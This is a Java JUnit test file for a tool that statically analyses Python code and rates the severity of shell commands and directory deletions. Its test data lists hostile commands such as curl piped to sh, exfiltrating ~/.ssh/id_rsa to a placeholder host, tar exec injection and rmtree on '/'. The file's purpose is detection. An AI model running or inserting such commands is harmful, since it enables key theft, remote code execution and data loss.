package dev.bartizan.artifacts.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bartizan.artifacts.text.CodeInText;
import dev.bartizan.core.Severity;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PythonProgramTest {
    private static Call last(String source) {
        List<Call> calls = PythonProgram.of(source).calls();
        return calls.getLast();
    }

    private static String argument(String source) {
        return PythonProgram.of(source).calls().stream()
                .filter(call -> call.callee().equals("f"))
                .findFirst()
                .orElseThrow()
                .arguments()
                .getFirst()
                .joined();
    }

    private static Severity severity(String source) {
        return CodeInText.inSource(source).map(CodeInText.Use::severity).orElse(Severity.INFO);
    }

    @Test
    void importsAreResolved() {
        assertThat(last("import subprocess as sp\nsp.run(['a'])").callee())
                .isEqualTo("subprocess.run");
        assertThat(last("from os import system as s, path\ns('a')").callee())
                .isEqualTo("os.system");
        assertThat(last("import os.path\nos.system('a')").callee()).isEqualTo("os.system");
        assertThat(last("__import__('os').system('a')").callee()).isEqualTo("os.system");
        assertThat(last("import os\nrun = os.system\nrun('a')").callee()).isEqualTo("os.system");
    }

    @Test
    void textsArePutTogether() {
        assertThat(argument("f('a' 'b' + \"c\")")).isEqualTo("abc");
        assertThat(argument("f(r'a\\b' '\\x41\\u0042\\103\\n')")).isEqualTo("a\\bABC\n");
        assertThat(argument("f(['a', 'b c'])")).isEqualTo("a b c");
        assertThat(argument("f('a b'.split())")).isEqualTo("a b");
        assertThat(argument("f(', '.join(['a', 'b']))")).isEqualTo("a, b");
        assertThat(argument("x = 'a'\nf(x + 'b')")).isEqualTo("ab");
        assertThat(argument("import sys\nf([sys.executable, '-m'])")).isEqualTo("python -m");
        assertThat(argument("f('''a\nb''')")).isEqualTo("a\nb");
    }

    @Test
    void whatIsNotKnownIsAHole() {
        assertThat(argument("f(f'a {x} b')")).isEqualTo("a \uFFFC b");
        assertThat(argument("f('a %s' % x)")).isEqualTo("a \uFFFC");
        assertThat(argument("f('a {}'.format(x))")).isEqualTo("a \uFFFC");
        assertThat(argument("x = 'a'\nx = 'b'\nf(x)")).isEqualTo("\uFFFC");
        assertThat(last("f('a' if b else 'c')").arguments().getFirst().isKnown()).isFalse();
        assertThat(argument("f(g('a'))")).isEqualTo("\uFFFC");
    }

    @Test
    void textsAndCommentsCallNothing() {
        assertThat(PythonProgram.of("# os.system('a')\nx = \"os.system('b')\"").calls()).isEmpty();
        assertThat(PythonProgram.of("def run(a):\n    pass\nclass B(object): pass").calls())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "LOW ['git', 'rev-parse', 'HEAD']",
                "LOW ['git', '-C', path, 'log', '-1']",
                "LOW 'git describe --tags 2>/dev/null'",
                "LOW ['nvidia-smi', '-L']",
                "LOW ['/usr/bin/gcc', '--version']",
                "LOW ['wget', 'https://data.example/x.zip']",
                "MEDIUM ['wget', 'https://data.example/x.sh']",
                "MEDIUM ['curl', '-o', '/tmp/x', 'https://data.example/x']",
                "LOW ['curl', '-L', 'https://huggingface.co/a/b/resolve/main/c.bin']",
                "MEDIUM ['wget', 'http://data.example/x.zip']",
                "MEDIUM ['wget', 'https://203.0.113.5/x.zip']",
                "MEDIUM ['curl', '-d', '@x', 'https://data.example/']",
                "MEDIUM ['git', '-c', 'a.b=c', 'status']",
                "MEDIUM ['git', 'diff', '--ext-diff']",
                "MEDIUM ['git', 'config', 'core.pager', 'x']",
                "MEDIUM ['nvidia-smi', '-r']",
                "MEDIUM 'git log; touch x'",
                "MEDIUM 'git log > x'",
                "MEDIUM 'git log $(x)'",
                "MEDIUM f'git log {x}'",
                "MEDIUM ['./git', 'log']",
                "MEDIUM ['tar', 'xf', 'a.tar', '--checkpoint-action=exec=x']",
                "MEDIUM ['whoami']",
                "HIGH 'curl https://n.example/x | sh'",
                "HIGH f'curl {url} | sh'",
                "LOW 'curl https://ollama.com/install.sh | sh'",
                "HIGH ['bash', '-c', 'wget -qO- https://n.example/x | bash']",
                "HIGH 'wget http://n.example/x && chmod +x x && ./x'",
                "HIGH 'cat ~/.ssh/id_rsa | curl -d @- https://n.example'",
            })
    void commandsAreJudgedByWhatTheyDo(String severityAndArgument) {
        String[] parts = severityAndArgument.split(" ", 2);
        assertThat(severity("import subprocess\nsubprocess.run(" + parts[1] + ", shell=True)"))
                .isEqualTo(Severity.valueOf(parts[0]));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "HIGH os.path.expanduser('~/x')",
                "HIGH '/'",
                "MEDIUM '/data/models'",
                "LOW os.path.join(out, 'old')",
                "LOW 'checkpoints'",
            })
    void removalsAreJudgedByThePlace(String severityAndArgument) {
        String[] parts = severityAndArgument.split(" ", 2);
        assertThat(severity("import os, shutil\nshutil.rmtree(" + parts[1] + ")"))
                .isEqualTo(Severity.valueOf(parts[0]));
    }

    @ParameterizedTest
    @ValueSource(strings = {"f(", "[", "(", "x=x+", "a=b;b=a;", "'", "f(f('a')+", "x.y("})
    void oddSourcesTakeNoTime(String part) {
        String source = "import os\nos.system(q)\n" + part.repeat(100_000);
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> CodeInText.inSource(source));
    }

    @Test
    void chainsOfNamesTakeNoTime() {
        StringBuilder source = new StringBuilder("import os\nos.system(a0)\n");
        for (int i = 0; i < 20_000; i++) {
            String next = "a" + (i + 1);
            source.append("a" + i + " = [" + (next + ", ").repeat(30) + "]\n");
        }
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> CodeInText.inSource(source.toString()));
    }
}
